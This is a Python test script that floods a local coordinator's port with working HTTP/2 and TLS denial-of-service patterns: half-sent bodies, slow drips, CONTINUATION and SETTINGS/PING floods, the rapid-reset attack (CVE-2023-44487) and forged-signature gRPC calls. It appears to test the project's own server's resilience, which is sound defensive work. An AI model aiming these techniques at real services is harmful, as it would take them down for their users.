"""An outsider without a key who wears the coordinator's port down: a program of its own that imports nothing of ours.

    python -m tests.network.flood PORT CONNECTIONS SECONDS [--kinds half,silent,...] [--pause SECONDS]

It opens so many TCP connections to 127.0.0.1, and opens each one again, after a pause, when the other side closes it.
The kinds take turns over the connections. It speaks HTTP/2 by hand, obeys flow control, and prints one line of JSON.
"""

import argparse
import asyncio
import contextlib
import json
import logging
import ssl
import struct
import time
from collections import Counter
from collections.abc import Awaitable, Callable

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
FRAME, BODY, SENT = 16_384, 60_000_000, 51_000_000
METHODS = (b"/flwr.proto.Fleet/PushObject", b"/flwr.proto.Fleet/ActivateNode", b"/polyclinic.Coordinator/Hello")
CLIENT_HELLO = bytes.fromhex("16030100c8010000c40303")
"""The first bytes of a TLS handshake, whose rest never comes."""
HALF_REQUEST = b"GET / HTTP/1.1\r\nHost: x\r\nX: "
"""The first bytes of a request of HTTP/1.1, for the live view: plain, or within TLS."""


def frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
    """A frame of HTTP/2."""
    return struct.pack(">I", len(content))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + content


def text(value: bytes) -> bytes:
    """A string of HPACK without Huffman coding."""
    if len(value) < 127:
        return bytes((len(value),)) + value
    length, rest = bytearray(), len(value) - 127
    while rest > 0x7F:
        length.append(rest & 0x7F | 0x80)
        rest >>= 7
    return bytes((0x7F, *length, rest)) + value


def headers(method: bytes, *more: tuple[bytes, bytes]) -> bytes:
    """The header block of a gRPC call."""
    usual = [(b":method", b"POST"), (b":scheme", b"https"), (b":path", method), (b":authority", b"127.0.0.1")]
    usual += [(b"content-type", b"application/grpc"), (b"te", b"trailers")]
    return b"".join(b"\x00" + text(name) + text(value) for name, value in (*usual, *more))


class Wire:
    """A TLS connection that speaks HTTP/2, with the room that the other side has granted."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader, self.writer = reader, writer
        self._room: dict[int, int] = {}
        self._first_room = 65_535
        self._granted = asyncio.Condition()
        self._stream = -1

    async def begin(self) -> None:
        self.writer.write(PREFACE + frame(SETTINGS, 0, 0))
        self._room[0] = 65_535
        await self.writer.drain()

    async def listen(self) -> None:
        """Read until the other side closes."""
        while True:
            head = await self._reader.readexactly(9)
            content = await self._reader.readexactly(int.from_bytes(head[:3]))
            kind, flags, stream = head[3], head[4], int.from_bytes(head[5:9]) & 0x7FFF_FFFF
            if kind == SETTINGS and not flags & ACK:
                self._set(content)
                self.writer.write(frame(SETTINGS, ACK, 0))
            elif kind == PING and not flags & ACK:
                self.writer.write(frame(PING, ACK, 0, content))
            elif kind == WINDOW_UPDATE:
                self._room[stream] = self._room.get(stream, self._first_room) + int.from_bytes(content)
            elif kind in (RST_STREAM, HEADERS):  # an answer: nothing more to send on this stream
                self._room.pop(stream, None)
            async with self._granted:
                self._granted.notify_all()

    def _set(self, content: bytes) -> None:
        for place in range(0, len(content), 6):
            name, value = struct.unpack(">HI", content[place : place + 6])
            if name == 4:  # the window with which a stream begins
                for stream in self._room.keys() - {0}:
                    self._room[stream] += value - self._first_room
                self._first_room = value

    def call(self, method: bytes, *more: tuple[bytes, bytes], flags: int = END_HEADERS) -> int:
        """Begin a call; its stream."""
        self._stream += 2
        self._room[self._stream] = self._first_room
        self.writer.write(frame(HEADERS, flags, self._stream, headers(method, *more)))
        return self._stream

    async def send(self, stream: int, content: bytes) -> bool:
        """Send as a DATA frame once there is room; false where the call is over."""
        async with self._granted:
            await self._granted.wait_for(
                lambda: stream not in self._room or min(self._room[0], self._room[stream]) >= len(content)
            )
        if stream not in self._room:
            return False
        self._room[0] -= len(content)
        self._room[stream] -= len(content)
        self.writer.write(frame(DATA, 0, stream, content))
        await self.writer.drain()
        return True


def announced(size: int = BODY) -> bytes:
    """The five bytes before a message: it is not compressed and has so many bytes."""
    return b"\x00" + struct.pack(">I", size)


async def _half(wire: Wire) -> None:
    """51 of 60 MB that were announced, again and again."""
    for number in range(10_000):
        stream, sent = wire.call(METHODS[number % len(METHODS)]), 0
        going = await wire.send(stream, announced())
        while going and sent < SENT:
            going = await wire.send(stream, bytes(FRAME))
            sent += FRAME
        await asyncio.sleep(1e6 if going else 0.2)


async def _drip(wire: Wire) -> None:
    """60 MB announced, and a byte now and then."""
    while not wire.writer.is_closing():
        stream = wire.call(METHODS[0])
        going = await wire.send(stream, announced())
        while going:
            await asyncio.sleep(0.2)
            going = await wire.send(stream, b"\x00")
        await asyncio.sleep(0.2)


Work = Callable[[Wire], Awaitable[None]]


def again(frames: Callable[[Wire], bytes], pause_s: float = 0.2) -> Work:
    """Write these frames again and again."""

    async def work(wire: Wire) -> None:
        while not wire.writer.is_closing():
            wire.writer.write(frames(wire))
            await wire.writer.drain()
            await asyncio.sleep(pause_s)

    return work


async def _headers(wire: Wire) -> None:
    """Metadata without an end."""
    wire.call(METHODS[0], flags=0)
    filler = b"".join(b"\x00" + text(b"x-%d" % number) + text(bytes(1000)) for number in range(15))
    await again(lambda wire: frame(CONTINUATION, 0, 1, filler), 0.05)(wire)


def _calls_without_bodies(wire: Wire) -> bytes:
    for _ in range(100):
        wire.call(METHODS[0])
    return b""


def _calls_taken_back(wire: Wire) -> bytes:
    """Take calls back as soon as they are begun (CVE-2023-44487)."""
    for _ in range(50):
        wire.writer.write(frame(RST_STREAM, 0, wire.call(METHODS[0]), struct.pack(">I", 8)))
    return b""


async def _calls(wire: Wire) -> None:
    """Whole calls under a signature that is none."""
    signed = ((b"flwr-public-key-bin", b"AAAA"), (b"flwr-timestamp", b"now"), (b"flwr-signature-bin", b"AAAA"))
    for number in range(1_000_000):
        await wire.send(wire.call(METHODS[number % len(METHODS)], *signed), bytes(5))
        await asyncio.sleep(0.05)


OVER_HTTP: dict[str, Work] = {
    "half": _half,
    "drip": _drip,
    "preface": lambda wire: asyncio.sleep(1e6),
    "streams": again(_calls_without_bodies, 1.0),
    "headers": _headers,
    # Settings and pings each ask for an answer.
    "settings": again(lambda wire: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 50),
    "pings": again(lambda wire: frame(PING, 0, 0, bytes(8)) * 50),
    "resets": again(_calls_taken_back),
    "calls": _calls,
}
KINDS = ["half", "silent", "half", "hello", "half", "shaken", "drip", "preface", "half", "streams", "half", "headers"]
KINDS += ["drip", "settings", "half", "pings", "drip", "resets", "half", "calls"]
"""Every second one is a call that is half sent."""


class Flood:
    """All connections, and what became of them."""

    def __init__(self, port: int, pause_s: float) -> None:
        self._port, self._pause_s = port, pause_s
        self._tls = ssl.create_default_context()
        self._tls.check_hostname, self._tls.verify_mode = False, ssl.CERT_NONE
        self._tls.set_alpn_protocols(["h2"])
        self.opened, self.refused = Counter[str](), 0
        self.open = 0
        self.longest_s = dict[str, float]()

    async def keep(self, kind: str, delay_s: float) -> None:
        """Open a connection of this kind again and again."""
        await asyncio.sleep(delay_s)
        while True:
            begun = time.monotonic()
            with contextlib.suppress(OSError, asyncio.IncompleteReadError, asyncio.TimeoutError):
                await self._once(kind)
            self.longest_s[kind] = max(self.longest_s.get(kind, 0.0), time.monotonic() - begun)
            await asyncio.sleep(self._pause_s)

    async def _once(self, kind: str) -> None:
        tls = None if kind in ("silent", "hello", "request") else self._tls
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", self._port, ssl=tls)
        except OSError:
            self.refused += 1
            raise
        self.opened[kind] += 1
        self.open += 1
        try:
            if kind in OVER_HTTP:
                wire = Wire(reader, writer)
                await wire.begin()
                await _first_done(wire.listen(), OVER_HTTP[kind](wire))
            else:
                beginnings = {"hello": CLIENT_HELLO, "silent": b"", "shaken": b""}
                writer.write(beginnings.get(kind, HALF_REQUEST))
                while await reader.read(FRAME):
                    pass
        finally:
            self.open -= 1
            writer.transport.abort()


async def _first_done(*works: Awaitable[None]) -> None:
    """Until one of both fails or ends."""
    tasks = [asyncio.ensure_future(work) for work in works]
    try:
        done, _ = await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
        for task in done:
            task.result()
    finally:
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)


async def flood(port: int, count: int, seconds: float, kinds: tuple[str, ...], pause_s: float) -> None:
    """Attack for so many seconds, with 200 more connections each second until there are so many."""
    this = Flood(port, pause_s)
    tasks = [asyncio.ensure_future(this.keep(kinds[n % len(kinds)], n / 200)) for n in range(count)]
    print("begun", flush=True)
    most, until = 0, time.monotonic() + seconds
    while time.monotonic() < until:
        await asyncio.sleep(0.1)
        most = max(most, this.open)
    facts = {"most_open": most, "open": this.open, "opened": this.opened, "longest_s": this.longest_s}
    print(json.dumps(facts | {"refused": this.refused}), flush=True)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


def main() -> None:
    """Attack, and say what came of it."""
    logging.disable()  # asyncio's of connections that the other side has closed
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("port", type=int)
    parser.add_argument("connections", type=int)
    parser.add_argument("seconds", type=float)
    parser.add_argument("--kinds", default=",".join(KINDS))
    parser.add_argument("--pause", type=float, default=1.0)
    options = parser.parse_args()
    kinds = tuple(options.kinds.split(","))
    asyncio.run(flood(options.port, options.connections, options.seconds, kinds, options.pause))


if __name__ == "__main__":
    main()
